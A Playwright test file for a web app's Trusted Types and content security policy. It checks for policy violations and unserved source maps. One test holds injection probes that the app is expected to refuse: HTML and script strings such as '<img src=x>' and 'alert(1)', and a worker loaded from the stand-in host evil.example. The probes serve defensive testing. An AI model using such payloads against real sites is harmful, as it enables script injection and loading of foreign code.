import type { BrowserContext, Page } from 'playwright/test'
import { installed } from './support/app'
import { onChart, openPairChart, plot } from './support/pair-chart'
import { expect, test } from './support/test'

/** The browser's complaints about policies that are broken or not understood, on any page, in any worker. */
function complaints(context: BrowserContext): readonly string[] {
  const found: string[] = []
  const note = (text: string) => {
    if (/trusted ?type|content security policy|permissions.policy|unrecognized feature/i.test(text)) found.push(text)
  }
  context.on('console', (message) => note(message.text()))
  context.on('serviceworker', (worker) => worker.on('console', (message) => note(message.text())))
  return found
}

const noteViolations = (page: Page) =>
  page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      console.error(`content security policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`)
    })
  })

test.use({ firstVisit: true })

test('with Trusted Types required, the app, its service worker, web worker and chart run without a violation', async ({
  page,
  context,
}) => {
  const found = complaints(context)
  await noteViolations(page)
  await openPairChart(page)
  await installed(page)
  // Served by the service worker now, and the chart computed by the web worker again.
  await page.reload()
  await expect(plot(page)).toHaveAttribute('data-dimmed', 'false')
  await onChart(page, '1y').click()
  await expect(plot(page)).toHaveAttribute('data-dimmed', 'false')
  await page.goto('/settings')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(found).toEqual([])
})

test('a page of the app refuses HTML and source text as strings, and workers of another origin', async ({ page }) => {
  await page.goto('/')
  await installed(page)
  const refused = await page.evaluate(() => {
    const attempts = [
      () => (document.createElement('p').innerHTML = '<img src=x>'),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x>'),
      () => (document.createElement('script').text = 'alert(1)'),
      () => new Worker('https://evil.example/worker.js'),
      () => new Worker('data:text/javascript,postMessage(1)'),
    ]
    return attempts.map((attempt) => {
      try {
        attempt()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown'
      }
    })
  })
  expect(refused).toEqual(Array.from({ length: 5 }, () => 'TypeError'))
})

test('no source map of the app is served, and no script names one', async ({ server }) => {
  const scripts = new Set(['/sw.js', '/theme.js'])
  const html = await (await fetch(server.origin)).text()
  for (const [, script] of html.matchAll(/(?:src|href)="(\/assets\/[^"]+\.js)"/g)) scripts.add(script ?? '')
  expect(scripts.size).toBeGreaterThan(3)
  for (const script of scripts) {
    const answer = await fetch(`${server.origin}${script}`)
    expect(answer.status, script).toBe(200)
    expect(await answer.text()).not.toContain('sourceMappingURL=')
    expect((await fetch(`${server.origin}${script}.map`)).status, script).toBe(404)
  }
})
